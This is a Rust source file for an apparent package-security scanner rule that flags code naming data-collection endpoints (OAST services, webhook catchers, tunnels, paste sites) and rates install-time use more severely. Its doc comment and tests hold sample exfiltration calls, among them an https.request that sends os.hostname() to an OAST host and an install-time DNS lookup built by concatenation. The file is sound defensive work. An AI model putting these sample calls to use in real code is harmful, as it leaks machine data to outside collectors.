use std::collections::HashSet;

use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds code that names a known data-collection endpoint: request
    /// inspectors and webhook catchers, out-of-band interaction (OAST) and DNS
    /// logging services, tunnels to a home machine, paste sites, chat-bot
    /// incoming webhooks. Destinations are found after constant propagation, so
    /// `'pipe' + 'dream.net'` counts.
    ///
    /// ## Why is this bad?
    /// These services exist to receive data from machines their owner does
    /// not control. Libraries have no reason to name them; install-time recon
    /// and stealers send their loot to them. Chat webhooks have honest uses
    /// (notifications), so they weigh less.
    ///
    /// ## Example
    /// ```js
    /// https.request({ hostname: 'abc123.oast.fun', path: '/' + os.hostname() });
    /// ```
    ///
    /// ## References
    /// - Dependency-confusion research waves (2021–2024) and the OAST hosts they used.
    CollectorEndpoint {
        id: "network/collector-endpoint",
        severity: High,
        status: Stable,
        summary: "The code names a data-collection endpoint (webhook catcher, OAST, tunnel, paste site)",
    }
}

impl Rule for CollectorEndpoint {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let mut seen = HashSet::new();
        for n in &ctx.facts.network {
            let Some(class) = n.collector.as_deref() else {
                continue;
            };
            if class == "raw-ip" || class == "webhook-url" {
                continue;
            }
            // A bare host name in a string (no scheme, no call) is data more
            // often than a destination: domain lists, suffix tables.
            let bare =
                n.api.is_none() && !n.destination.as_deref().is_some_and(|d| d.contains("://"));
            if bare && !n.at.install_time {
                continue;
            }
            let host = n.host.clone().unwrap_or_default();
            if !seen.insert((host.clone(), n.at.install_time)) {
                continue;
            }
            let severity = match (class, n.at.install_time) {
                ("chat-webhook", false) => Severity::Medium,
                ("chat-webhook", true) => Severity::High,
                (_, true) => Severity::Critical,
                _ => Severity::High,
            };
            let what = match class {
                "webhook-collector" => "a webhook catcher",
                "oast" => "an out-of-band interaction (OAST) service",
                "tunnel" => "a tunnel service",
                "paste" => "a paste/file-drop site",
                "chat-webhook" => "a chat incoming webhook",
                _ => "a collection endpoint",
            };
            let when = if n.at.install_time {
                " in install-time code"
            } else {
                ""
            };
            out.push(
                ctx.at(
                    Finding::new(Self::META.id, severity, format!("`{host}` is {what}{when}")),
                    &n.at.location,
                )
                .at_install_time(n.at.install_time)
                .with_capability("network"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&CollectorEndpoint::META).test(
            &[
                Case::InstallJs(
                    "const h = 'x1.oast' + '.fun'; require('dns').lookup(h, () => {});",
                ),
                Case::Js("fetch('https://webhook.site/0000-1111', { method: 'POST' });"),
                Case::Js("const u = `https://discord.com/api/webhooks/${id}/${tok}`;"),
            ],
            &[
                Case::Js("fetch('https://api.postmarkapp.invalid/email');"),
                Case::Js("// see https://webhook.site for testing\nconst a = 1;"),
                Case::Js("const doc = 'Use ngrok or a similar tunnel';"),
                Case::Js("module.exports = ['ngrok.io', 'ap.ngrok.io', 'trycloudflare.com'];"),
            ],
        );
    }
}
